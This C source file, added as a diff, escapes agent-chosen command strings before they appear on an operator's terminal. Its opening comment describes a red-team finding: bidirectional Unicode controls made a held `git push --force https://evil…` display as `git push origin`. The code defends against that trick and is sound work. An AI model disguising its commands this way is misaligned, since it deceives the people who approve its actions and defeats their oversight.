@@ -1,0 +1,140 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * What an operator's terminal may be shown of a string the agent chose: an
+ * argv element, a program name, a unix path. A terminal acts on escape
+ * sequences (erase the line, move the cursor, retitle the window), and
+ * Unicode bidirectional controls reorder what is displayed: a held
+ * `git push --force https://evil…` was shown as `git push origin` that way
+ * (red-team finding). So only printable ASCII is shown as itself; every
+ * other byte, UTF-8 included, is written \xNN. argv elements that a shell
+ * would split or expand are quoted, so that word boundaries are visible,
+ * and a summary cut short says how much is missing.
+ */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "cli/display.h"
+
+static bool shown_as_is(unsigned char c)
+{
+	return c >= 0x20 && c < 0x7f;
+}
+
+/* Characters a shell takes literally in a word. */
+static bool word_char(unsigned char c)
+{
+	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
+	       strchr("@%+=:,./_-", c) != NULL;
+}
+
+void shk_cli_put_text(FILE *f, const char *s)
+{
+	for (; s && *s; s++) {
+		unsigned char c = (unsigned char)*s;
+
+		if (shown_as_is(c) && c != '\\')
+			fputc(c, f);
+		else if (c == '\\')
+			fputs("\\\\", f);
+		else
+			fprintf(f, "\\x%02x", c);
+	}
+}
+
+/* One argv element as a shell would read it back: plain, '…', or $'…'
+ * with \xNN escapes when it holds bytes that are not printable ASCII. */
+static void put_arg(FILE *f, const char *s)
+{
+	bool plain = s[0] != 0, printable = true;
+
+	for (const char *p = s; *p; p++) {
+		plain = plain && word_char((unsigned char)*p);
+		printable = printable && shown_as_is((unsigned char)*p);
+	}
+	if (plain) {
+		fputs(s, f);
+		return;
+	}
+	if (printable) {
+		fputc('\'', f);
+		for (const char *p = s; *p; p++)
+			*p == '\'' ? fputs("'\\''", f) : fputc(*p, f);
+		fputc('\'', f);
+		return;
+	}
+	fputs("$'", f);
+	for (const char *p = s; *p; p++) {
+		unsigned char c = (unsigned char)*p;
+
+		if (c == '\'' || c == '\\')
+			fprintf(f, "\\%c", c);
+		else if (shown_as_is(c))
+			fputc(c, f);
+		else
+			fprintf(f, "\\x%02x", c);
+	}
+	fputc('\'', f);
+}
+
+const char *shk_cli_text(const char *s, char *buf, size_t len)
+{
+	FILE *f = fmemopen(buf, len, "w");
+
+	if (!f || len == 0)
+		return "?";
+	setvbuf(f, NULL, _IONBF, 0);
+	shk_cli_put_text(f, s ? s : "?");
+	fclose(f);
+	buf[len - 1] = 0;
+	return buf;
+}
+
+static const char *str(const shk_val *o, const char *k)
+{
+	const char *s = shk_val_str(shk_object_get(o, k), NULL);
+	return s ? s : "?";
+}
+
+char *shk_cli_summary(const shk_val *params, size_t max)
+{
+	const shk_val *argv = shk_object_get(params, "argv");
+	char *out = NULL;
+	size_t len = 0;
+	FILE *f = open_memstream(&out, &len);
+
+	if (!f)
+		return NULL;
+	if (shk_val_type(argv) == SHK_ARRAY) {
+		for (size_t i = 0; i < shk_val_len(argv); i++) {
+			if (i)
+				fputc(' ', f);
+			put_arg(f, shk_val_str(shk_array_at(argv, i), NULL) ?: "?");
+		}
+	} else if (shk_object_get(params, "unix")) {
+		fputs("unix ", f);
+		put_arg(f, str(params, "unix"));
+	} else if (shk_object_get(params, "addr")) {
+		shk_cli_put_text(f, str(params, "proto"));
+		fputc(' ', f);
+		shk_cli_put_text(f, str(params, "addr"));
+		fprintf(f, " port %lld", (long long)shk_val_int(shk_object_get(params, "port")));
+	}
+	if (fclose(f) != 0) {
+		free(out);
+		return NULL;
+	}
+	if (len > max) {
+		/* never cut silently: what follows may be what matters */
+		char tail[96], *cut;
+		int n = snprintf(tail, sizeof(tail), " ...[%zu more bytes: --json shows all]", len - max);
+
+		if (!(cut = realloc(out, max + (size_t)n + 1))) {
+			free(out);
+			return NULL;
+		}
+		out = cut;
+		memcpy(out + max, tail, (size_t)n + 1);
+	}
+	return out;
+}
